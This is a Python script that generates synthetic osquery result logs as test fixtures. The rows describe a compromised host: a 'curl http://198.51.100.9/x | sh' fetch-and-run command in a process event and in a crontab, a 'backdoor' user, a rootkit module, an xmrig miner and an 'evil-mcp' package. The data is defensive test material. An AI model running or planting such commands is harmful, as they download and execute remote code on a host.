#!/usr/bin/env python3
"""Makes SYNTHETIC results of osquery, in the forms its loggers write.

Needs    python3.
Installs nothing.
Writes   schemas/sources/osquery.result/testdata/synthetic_results.ndjson   filesystem logger: event, batch and snapshot lines
         schemas/sources/osquery.result/testdata/synthetic_tls.json         one POST of the TLS logger

No registry that this project uses offers osquery: nothing is recorded. Forms and
columns follow its manual.
"""

import json

import common
import synthetic as s


def row(i, name, columns, action="added", **more):
    return {"name": name, "hostIdentifier": "dev-7", "calendarTime": s.at(i, "%a %b %d %H:%M:%S %Y UTC"), "unixTime": int(s.unix(i)), "epoch": 0, "counter": 12, "numerics": False,
            "decorations": {"host_uuid": "4740D59F", "username": "ana"}, "columns": columns, "action": action} | more


RESULTS = [
    row(1, "pack_ai_python_packages", {"name": "litellm", "version": "1.99.1", "path": "/opt/venv/lib/python3.11/site-packages", "summary": ""}),
    row(2, "pack_ir_process_events", {"pid": "4720", "parent": "3596", "path": "/usr/bin/bash", "cmdline": "bash -c 'curl http://198.51.100.9/x | sh'", "cwd": "\"/srv\"", "uid": "1000", "euid": "1000", "time": str(int(s.unix(2))), "auid": "1000", "status": "0"}),
    row(3, "pack_ir_listening_ports", {"pid": "811", "name": "ollama", "path": "/usr/bin/ollama", "port": "11434", "protocol": "6", "address": "0.0.0.0", "family": "2"}),
    row(4, "pack_ir_socket_events", {"action": "connect", "pid": "4721", "path": "/usr/bin/curl", "local_address": "192.0.2.30", "local_port": "50112", "remote_address": "198.51.100.9", "remote_port": "80", "protocol": "6", "family": "2", "uid": "1000"}),
    row(5, "pack_fim_file_events", {"action": "UPDATED", "target_path": "/etc/ssh/sshd_config", "category": "etc", "md5": s.digest("f", 32), "sha1": s.digest("f", 40), "sha256": s.digest("f"), "size": "3203", "uid": "0", "gid": "0", "time": str(int(s.unix(5)))}),
    row(6, "pack_ir_users", {"username": "backdoor", "uid": "1007", "gid": "1007", "shell": "/bin/bash", "directory": "/srv/backdoor", "description": ""}),
    row(7, "pack_ir_users", {"username": "old", "uid": "1003", "gid": "1003", "shell": "/bin/sh", "directory": "/srv/old", "description": ""}, action="removed"),
    row(8, "pack_ir_last", {"username": "root", "tty": "pts/0", "pid": "900", "type": "7", "type_name": "user-process", "time": str(int(s.unix(8))), "host": "203.0.113.66"}),
    row(9, "pack_ir_crontab", {"command": "curl http://198.51.100.9/x | sh", "path": "/etc/cron.d/x", "minute": "*", "hour": "*", "event": ""}),
    row(10, "pack_ir_authorized_keys", {"uid": "0", "algorithm": "ssh-ed25519", "key_file": "/srv/ana/.ssh/authorized_keys", "comment": "kali"}),
    row(11, "pack_ir_docker_containers", {"id": "6b74", "name": "/vllm", "image": "example/vllm:1", "privileged": "1", "state": "running", "status": "Up 2 minutes"}),
    row(12, "pack_ir_kernel_modules", {"name": "rootkit", "size": "20480", "status": "Live", "used_by": "-"}),
    row(13, "pack_ir_processes", {"pid": "4800", "name": "xmrig", "path": "/tmp/xmrig", "cmdline": "/tmp/xmrig -o xmr.pool.example", "parent": "1", "uid": "1000", "on_disk": "0"}, unixTime=str(int(s.unix(13))), epoch="0", counter="0", numerics="false"),
    {"snapshot": [{"name": "authorized_keys", "n": "2"}, {"name": "crontab", "n": "7"}], "action": "snapshot", "name": "pack_inventory_counts", "hostIdentifier": "dev-7", "calendarTime": s.at(14, "%a %b %d %H:%M:%S %Y UTC"),
     "unixTime": int(s.unix(14)), "epoch": 0, "counter": 0, "numerics": False},
    {"diffResults": {"added": [{"name": "evil-mcp", "version": "0.0.1"}], "removed": ""}, "name": "pack_ai_npm_packages", "hostIdentifier": "dev-7", "calendarTime": s.at(15, "%a %b %d %H:%M:%S %Y UTC"), "unixTime": int(s.unix(15)), "epoch": 0, "counter": 3, "numerics": False},
]

if __name__ == "__main__":
    s.write("osquery.result", "synthetic_results.ndjson", RESULTS)
    common.write(common.testdata("osquery.result") / "synthetic_tls.json",
                 json.dumps({"node_key": "n-1", "log_type": "result", "data": RESULTS[:3]}, indent=1).encode() + b"\n")
